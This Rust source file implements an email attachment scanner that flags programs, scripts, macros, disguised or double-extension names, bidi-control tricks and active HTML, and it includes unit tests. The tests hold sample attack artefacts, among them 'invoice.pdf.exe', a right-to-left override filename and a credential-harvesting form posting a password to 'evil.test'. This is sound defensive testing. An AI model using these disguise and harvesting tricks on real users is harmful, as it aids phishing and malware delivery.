//! Dangerous attachments, judged by name, declared type and content (magic bytes);
//! when they disagree, that is a finding of its own. ZIP archives are listed from their
//! central directory, never extracted, and bounded: an archive with more entries than
//! [`MAX_ENTRIES`] is not listed but reported as beyond the scan limit, never passed.

use std::io::Cursor;

/// Archive entries listed at most.
pub const MAX_ENTRIES: usize = 10_000;

const EXECUTABLE: &[&str] = &[
    "exe", "dll", "scr", "com", "pif", "msi", "jar", "lnk", "cpl", "sys",
];
const SCRIPT: &[&str] = &[
    "bat", "cmd", "js", "jse", "vbs", "vbe", "wsf", "wsh", "hta", "ps1", "psm1", "sh",
];
const DISK_IMAGE: &[&str] = &["iso", "img", "vhd", "vhdx", "dmg"];
const MACRO_OFFICE: &[&str] = &[
    "docm", "dotm", "xlsm", "xltm", "xlam", "pptm", "potm", "ppsm", "sldm",
];
/// Extensions people expect harmless content behind (the first half of a double one).
const DOCUMENT: &[&str] = &[
    "pdf", "doc", "docx", "xls", "xlsx", "ppt", "pptx", "txt", "jpg", "jpeg", "png", "gif", "zip",
    "rtf", "csv",
];

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Finding {
    Executable {
        name: String,
    },
    Script {
        name: String,
    },
    DiskImage {
        name: String,
    },
    /// Office macros (OOXML with vbaProject.bin, OLE with a VBA project, or a macro
    /// extension).
    Macro {
        name: String,
    },
    /// `invoice.pdf.exe`.
    DoubleExtension {
        name: String,
    },
    /// A right-to-left override (or other bidi control) that disguises the name.
    BidiControl {
        name: String,
    },
    /// The content is not what the name or declared type says.
    Disguised {
        name: String,
        looks_like: &'static str,
    },
    /// An HTML attachment with a form or a script (credential harvesting pages).
    ActiveHtml {
        name: String,
    },
    EncryptedArchive {
        name: String,
    },
    /// Something dangerous inside an archive.
    InArchive {
        archive: String,
        entry: Box<Finding>,
    },
    /// Too big or too complex to inspect fully.
    ScanLimit {
        name: String,
    },
}

impl Finding {
    pub fn describe(&self) -> String {
        match self {
            Finding::Executable { name } => format!("the attachment {name} is a program"),
            Finding::Script { name } => format!("the attachment {name} is a script that can run"),
            Finding::DiskImage { name } => {
                format!("the attachment {name} is a disk image (a common way to smuggle programs)")
            }
            Finding::Macro { name } => format!("the attachment {name} contains Office macros"),
            Finding::DoubleExtension { name } => {
                format!("the attachment {name} hides its real type behind a second extension")
            }
            Finding::BidiControl { name } => {
                format!("the attachment name {name:?} uses hidden characters to reverse part of it")
            }
            Finding::Disguised { name, looks_like } => {
                format!("the attachment {name} is really {looks_like}")
            }
            Finding::ActiveHtml { name } => {
                format!("the attachment {name} is a web page with a form or script")
            }
            Finding::EncryptedArchive { name } => {
                format!("the attachment {name} is an encrypted archive that cannot be checked")
            }
            Finding::InArchive { archive, entry } => {
                format!("inside {archive}: {}", entry.describe())
            }
            Finding::ScanLimit { name } => {
                format!("the attachment {name} is too complex to check (scan limit reached)")
            }
        }
    }
}

fn extension(name: &str) -> String {
    name.rsplit_once('.')
        .map(|(_, e)| e.trim().to_ascii_lowercase())
        .unwrap_or_default()
}

/// What the first bytes say the content is, if it is one of the kinds we care about.
fn sniff(data: &[u8]) -> Option<&'static str> {
    if data.starts_with(b"MZ") {
        Some("a Windows program")
    } else if data.starts_with(b"\x7fELF") {
        Some("a Linux program")
    } else if data.starts_with(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) {
        Some("an OLE compound file")
    } else if data.starts_with(b"PK\x03\x04") || data.starts_with(b"PK\x05\x06") {
        Some("a ZIP archive")
    } else if data.starts_with(&[0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0]) {
        Some("a Windows shortcut")
    } else if data.get(0x8001..0x8006) == Some(b"CD001") {
        Some("a disk image")
    } else if data.starts_with(b"%PDF-") {
        Some("a PDF")
    } else {
        None
    }
}

/// Findings from the name alone.
fn by_name(name: &str, out: &mut Vec<Finding>) {
    let n = name.to_string();
    if name.chars().any(|c| matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}')) {
        out.push(Finding::BidiControl { name: n.clone() });
    }
    let ext = extension(name);
    let e = ext.as_str();
    if EXECUTABLE.contains(&e) {
        out.push(Finding::Executable { name: n.clone() });
    } else if SCRIPT.contains(&e) {
        out.push(Finding::Script { name: n.clone() });
    } else if DISK_IMAGE.contains(&e) {
        out.push(Finding::DiskImage { name: n.clone() });
    } else if MACRO_OFFICE.contains(&e) {
        out.push(Finding::Macro { name: n.clone() });
    }
    let dangerous = EXECUTABLE.contains(&e) || SCRIPT.contains(&e) || DISK_IMAGE.contains(&e);
    if dangerous
        && let Some((stem, _)) = name.rsplit_once('.')
        && DOCUMENT.contains(&extension(stem).as_str())
    {
        out.push(Finding::DoubleExtension { name: n });
    }
}

/// Everything dangerous about one attachment.
pub fn inspect(name: &str, declared_type: Option<&str>, data: &[u8]) -> Vec<Finding> {
    let mut out = Vec::new();
    by_name(name, &mut out);
    let ext = extension(name);
    let declared = declared_type.unwrap_or_default().to_ascii_lowercase();
    let n = name.to_string();
    match sniff(data) {
        Some(kind @ ("a Windows program" | "a Linux program" | "a Windows shortcut"))
            if !EXECUTABLE.contains(&ext.as_str()) =>
        {
            out.push(Finding::Disguised {
                name: n.clone(),
                looks_like: kind,
            });
        }
        Some("a disk image") if !DISK_IMAGE.contains(&ext.as_str()) => {
            out.push(Finding::Disguised {
                name: n.clone(),
                looks_like: "a disk image",
            });
        }
        Some("an OLE compound file") => {
            // OLE with a VBA project: the stream names are UTF-16LE.
            let vba = "_VBA_PROJECT"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect::<Vec<u8>>();
            if memchr::memmem::find(data, &vba).is_some()
                && !out.iter().any(|f| matches!(f, Finding::Macro { .. }))
            {
                out.push(Finding::Macro { name: n.clone() });
            }
        }
        Some("a ZIP archive") => archive(name, data, &mut out),
        _ => {}
    }
    if (ext == "html" || ext == "htm" || ext == "shtml" || declared.starts_with("text/html"))
        && active_html(data)
    {
        out.push(Finding::ActiveHtml { name: n });
    }
    out
}

fn active_html(data: &[u8]) -> bool {
    let text = String::from_utf8_lossy(&data[..data.len().min(2 * 1024 * 1024)]);
    let s = crate::html::scan(&text);
    s.has_script || s.has_form
}

/// Lists a ZIP archive's entries (OOXML documents are ZIP archives too).
fn archive(name: &str, data: &[u8], out: &mut Vec<Finding>) {
    // Count central directory records before the zip crate allocates one per entry.
    if memchr::memmem::find_iter(data, b"PK\x01\x02")
        .take(MAX_ENTRIES + 1)
        .count()
        > MAX_ENTRIES
    {
        out.push(Finding::ScanLimit {
            name: name.to_string(),
        });
        return;
    }
    let Ok(mut zip) = zip::ZipArchive::new(Cursor::new(data)) else {
        return;
    };
    let mut encrypted = false;
    for i in 0..zip.len().min(MAX_ENTRIES) {
        let Ok(entry) = zip.by_index_raw(i) else {
            continue;
        };
        let entry_name = entry.name().to_string();
        encrypted |= entry.encrypted();
        let base = entry_name.rsplit('/').next().unwrap_or(&entry_name);
        if base.eq_ignore_ascii_case("vbaProject.bin") {
            if !out.iter().any(|f| matches!(f, Finding::Macro { .. })) {
                out.push(Finding::Macro {
                    name: name.to_string(),
                });
            }
            continue;
        }
        let mut inner = Vec::new();
        by_name(base, &mut inner);
        for f in inner {
            out.push(Finding::InArchive {
                archive: name.to_string(),
                entry: Box::new(f),
            });
        }
    }
    if encrypted {
        out.push(Finding::EncryptedArchive {
            name: name.to_string(),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        for (n, d) in entries {
            w.start_file(*n, opts).unwrap_or_else(|e| panic!("{e}"));
            w.write_all(d).unwrap_or_else(|e| panic!("{e}"));
        }
        w.finish().unwrap_or_else(|e| panic!("{e}")).into_inner()
    }

    #[test]
    fn programs_scripts_images_by_name() {
        assert_eq!(
            inspect("setup.EXE", None, b"MZ.."),
            vec![Finding::Executable {
                name: "setup.EXE".into()
            }]
        );
        assert_eq!(
            inspect("run.vbs", None, b"x"),
            vec![Finding::Script {
                name: "run.vbs".into()
            }]
        );
        assert_eq!(
            inspect("disk.iso", None, b""),
            vec![Finding::DiskImage {
                name: "disk.iso".into()
            }]
        );
        assert_eq!(
            inspect("invoice.pdf.exe", None, b"MZ"),
            vec![
                Finding::Executable {
                    name: "invoice.pdf.exe".into()
                },
                Finding::DoubleExtension {
                    name: "invoice.pdf.exe".into()
                }
            ]
        );
        let rlo = "invoice\u{202E}fdp.exe";
        assert!(inspect(rlo, None, b"").contains(&Finding::BidiControl { name: rlo.into() }));
    }

    #[test]
    fn content_that_disagrees_with_the_name() {
        assert_eq!(
            inspect("report.pdf", Some("application/pdf"), b"MZ\x90\x00"),
            vec![Finding::Disguised {
                name: "report.pdf".into(),
                looks_like: "a Windows program"
            }]
        );
    }

    #[test]
    fn harmless_attachments_pass() {
        assert!(inspect("invoice.pdf", Some("application/pdf"), b"%PDF-1.7\n...").is_empty());
        assert!(inspect("photo.jpg", Some("image/jpeg"), &[0xFF, 0xD8, 0xFF]).is_empty());
        assert!(inspect("notes.html", Some("text/html"), b"<p>Hello</p>").is_empty());
        let docx = zip_of(&[
            ("[Content_Types].xml", b"<x/>"),
            ("word/document.xml", b"<w/>"),
        ]);
        assert!(inspect("letter.docx", None, &docx).is_empty());
    }

    #[test]
    fn macros_in_ooxml_and_ole() {
        let docm = zip_of(&[
            ("word/document.xml", b"<w/>"),
            ("word/vbaProject.bin", b"x"),
        ]);
        assert_eq!(
            inspect("letter.docx", None, &docm),
            vec![Finding::Macro {
                name: "letter.docx".into()
            }]
        );
        let mut ole = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        ole.extend("_VBA_PROJECT".encode_utf16().flat_map(u16::to_le_bytes));
        assert_eq!(
            inspect("old.doc", None, &ole),
            vec![Finding::Macro {
                name: "old.doc".into()
            }]
        );
    }

    #[test]
    fn archives_are_listed_not_extracted() {
        let z = zip_of(&[("readme.txt", b"hi"), ("docs/invoice.pdf.js", b"x")]);
        let got = inspect("files.zip", None, &z);
        assert!(
            got.contains(&Finding::InArchive {
                archive: "files.zip".into(),
                entry: Box::new(Finding::Script {
                    name: "invoice.pdf.js".into()
                })
            }),
            "{got:?}"
        );
        // Beyond the entry limit: reported, never passed.
        let many: Vec<(String, Vec<u8>)> = (0..=MAX_ENTRIES)
            .map(|i| (format!("f{i}.txt"), Vec::new()))
            .collect();
        let refs: Vec<(&str, &[u8])> = many
            .iter()
            .map(|(n, d)| (n.as_str(), d.as_slice()))
            .collect();
        let big = zip_of(&refs);
        assert_eq!(
            inspect("big.zip", None, &big),
            vec![Finding::ScanLimit {
                name: "big.zip".into()
            }]
        );
        // Garbage that starts like a ZIP is no crash.
        assert!(inspect("x.zip", None, b"PK\x03\x04garbage").is_empty());
    }

    #[test]
    fn html_attachments_with_forms_or_scripts() {
        let page = b"<html><form action='https://evil.test'><input type=password></form></html>";
        assert_eq!(
            inspect("login.html", Some("text/html"), page),
            vec![Finding::ActiveHtml {
                name: "login.html".into()
            }]
        );
    }
}
